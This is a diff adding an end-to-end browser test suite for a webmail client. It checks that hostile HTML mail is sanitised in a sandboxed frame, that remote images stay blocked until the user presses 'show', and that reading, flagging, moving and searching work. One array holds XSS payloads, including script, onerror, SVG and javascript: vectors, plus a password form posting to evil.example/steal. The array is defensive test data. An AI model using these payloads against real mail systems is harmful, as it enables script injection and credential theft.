@@ -1,0 +1,172 @@
+// Reading mail in Chromium against the real gateway and Dovecot: hostile HTML never runs,
+// remote content is fetched only after "show", and read/flag/move/delete/search work.
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { launchBrowser, type TestBrowser } from '../support/browser.js';
+import { startGateway, type TestGateway } from '../support/gateway.js';
+import { createUser, imapAs, rawMessage, type TestUser } from '../support/mailstack.js';
+
+let gateway: TestGateway;
+let browser: TestBrowser;
+let base: string;
+let tracker: Server;
+let trackerBase: string;
+const trackerHits: string[] = [];
+
+beforeAll(async () => {
+  gateway = await startGateway();
+  base = await gateway.app.listen({ host: '127.0.0.1', port: 0 });
+  browser = await launchBrowser();
+  // "Another host": a loopback server on its own port that counts every request.
+  tracker = createServer((request, response) => {
+    trackerHits.push(request.url ?? '');
+    response.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
+  });
+  await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));
+  trackerBase = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
+});
+afterAll(async () => {
+  await browser?.close();
+  await gateway?.close();
+  await new Promise((resolve) => tracker?.close(resolve));
+});
+
+function htmlMessage(to: string, subject: string, html: string): string {
+  return [
+    'From: "Newsletter" <news@shop.example>',
+    `To: ${to}`,
+    `Subject: ${subject}`,
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    html,
+    '',
+  ].join('\r\n');
+}
+
+async function signIn(page: Page, user: TestUser) {
+  await page.goto(`${base}/login`);
+  await page.getByLabel('Email address').fill(user.address);
+  await page.getByLabel('Password', { exact: true }).fill(user.password);
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  await page.waitForURL(`${base}/mail/INBOX`);
+}
+
+const HOSTILE = [
+  `<script>window.top.__pwned = 1; alert(1)</script><p>Script</p>`,
+  `<img src="x" onerror="window.top.__pwned = 2; alert(2)"><p>Onerror</p>`,
+  `<svg><animate onbegin="alert(3)" attributeName="x" dur="1s"/></svg><p>SVG</p>`,
+  `<a href="javascript:alert(4)">Klick</a><iframe srcdoc="<script>alert(5)</script>"></iframe>`,
+  `<form action="${'https://evil.example/steal'}"><input name="pw"><button>Senden</button></form><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript><details open ontoggle="alert(7)">x</details>`,
+];
+
+describe('hostile HTML mail', () => {
+  it('runs no script and opens no dialog, whatever the mail tries', async () => {
+    const user = await createUser('e2e-read');
+    const imap = await imapAs(user);
+    for (const [i, html] of HOSTILE.entries()) await imap.append('INBOX', htmlMessage(user.address, `Hostile ${i}`, html));
+    await imap.logout();
+
+    const context = await browser.context();
+    const page = await context.newPage();
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await signIn(page, user);
+    for (let i = 0; i < HOSTILE.length; i++) {
+      await page.getByText(`Hostile ${i}`, { exact: true }).click();
+      const frameElement = page.locator('iframe.message-frame');
+      await frameElement.waitFor();
+      expect(await frameElement.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
+      const frame = await (await frameElement.elementHandle())!.contentFrame();
+      await expect.poll(async () => (await frame!.locator('body').textContent())?.length ?? 0).toBeGreaterThan(0);
+      const dangerous = await frame!.evaluate(() => ({
+        scripts: document.querySelectorAll('script, iframe, form, meta[http-equiv], svg').length,
+        handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
+        jsLinks: [...document.querySelectorAll('a')].filter((a) => a.getAttribute('href')?.toLowerCase().includes('javascript')).length,
+      }));
+      expect(dangerous).toEqual({ scripts: 0, handlers: 0, jsLinks: 0 });
+    }
+    await page.waitForTimeout(300);
+    expect(dialogs).toEqual([]);
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await context.close();
+  });
+
+  it('fetches nothing from another host until "show" is pressed', async () => {
+    const user = await createUser('e2e-read');
+    const imap = await imapAs(user);
+    await imap.append('INBOX', htmlMessage(user.address, 'Angebote der Woche', `
+      <style>.hero { background: url(${trackerBase}/css-bg.png) }</style>
+      <div class="hero">Angebote</div>
+      <img src="${trackerBase}/banner.png" alt="Banner" width="300" height="100">
+      <img src="${trackerBase}/pixel.gif" width="1" height="1">
+      <p style="background-image:url('${trackerBase}/inline.png')">Nur heute</p>`));
+    await imap.logout();
+
+    const context = await browser.context();
+    const page = await context.newPage();
+    await signIn(page, user);
+    trackerHits.length = 0;
+    await page.getByText('Angebote der Woche').click();
+    await page.locator('iframe.message-frame').waitFor();
+    await expect.poll(() => page.getByRole('status').textContent()).toMatch(/\d+ remote items .* were blocked/);
+    await page.waitForTimeout(500);
+    expect(trackerHits).toEqual([]);
+    await page.getByRole('button', { name: 'Show them' }).click();
+    await expect.poll(() => trackerHits.includes('/banner.png')).toBe(true);
+    await context.close();
+  });
+});
+
+describe('reading and acting on mail', () => {
+  it('opens a message and marks it read, flags, moves, deletes, and searches', async () => {
+    const user = await createUser('e2e-read');
+    const imap = await imapAs(user);
+    await imap.append('INBOX', rawMessage('anna@example.com', user.address, 'Grüße aus Köln', 'Liebe Grüße vom Rhein, Anna'));
+    await imap.append('INBOX', rawMessage('ben@example.com', user.address, 'Rechnung November', 'Die Rechnung Nummer Zebra-4711 liegt bei.'));
+    await imap.append('INBOX', rawMessage('carla@example.com', user.address, 'Treffen am Freitag', 'Wollen wir uns treffen?'));
+    await imap.logout();
+
+    const context = await browser.context();
+    const page = await context.newPage();
+    await signIn(page, user);
+    await expect.poll(() => page.locator('.list-row').count()).toBe(3);
+    // Newest first.
+    expect(await page.locator('.list-row .row-subject').first().textContent()).toBe('Treffen am Freitag');
+
+    // Open: the text shows, the row and the folder count say read.
+    await page.getByText('Grüße aus Köln').click();
+    await expect.poll(() => page.locator('.plain-body').textContent()).toContain('Liebe Grüße vom Rhein');
+    await expect.poll(() => page.locator('nav .folder-link[data-role="inbox"] .count').textContent()).toBe('2');
+
+    // Flag with the keyboard, then move to Trash by deleting.
+    await page.keyboard.press('s');
+    await expect.poll(() => page.locator('.list-row.open .flag').count()).toBe(1);
+    await page.keyboard.press('#');
+    await expect.poll(() => page.locator('.list-row').count()).toBe(2);
+
+    // Search on the server, by body text.
+    await page.getByLabel('Search mail').fill('Zebra-4711');
+    await page.getByRole('button', { name: 'Search' }).click();
+    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Rechnung November']);
+    expect(new URL(page.url()).searchParams.get('q')).toBe('Zebra-4711');
+
+    // Move it to Junk with the menu.
+    await page.locator('.list-row').first().locator('input[type="checkbox"]').check();
+    await page.getByRole('button', { name: 'Spam' }).click();
+    await expect.poll(() => page.locator('.list-row').count()).toBe(0);
+
+    await page.getByRole('link', { name: /Trash/ }).click();
+    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Grüße aus Köln']);
+    await page.getByRole('link', { name: /Junk/ }).click();
+    await expect.poll(() => page.locator('.list-row .row-subject').allTextContents()).toEqual(['Rechnung November']);
+    await context.close();
+  });
+});
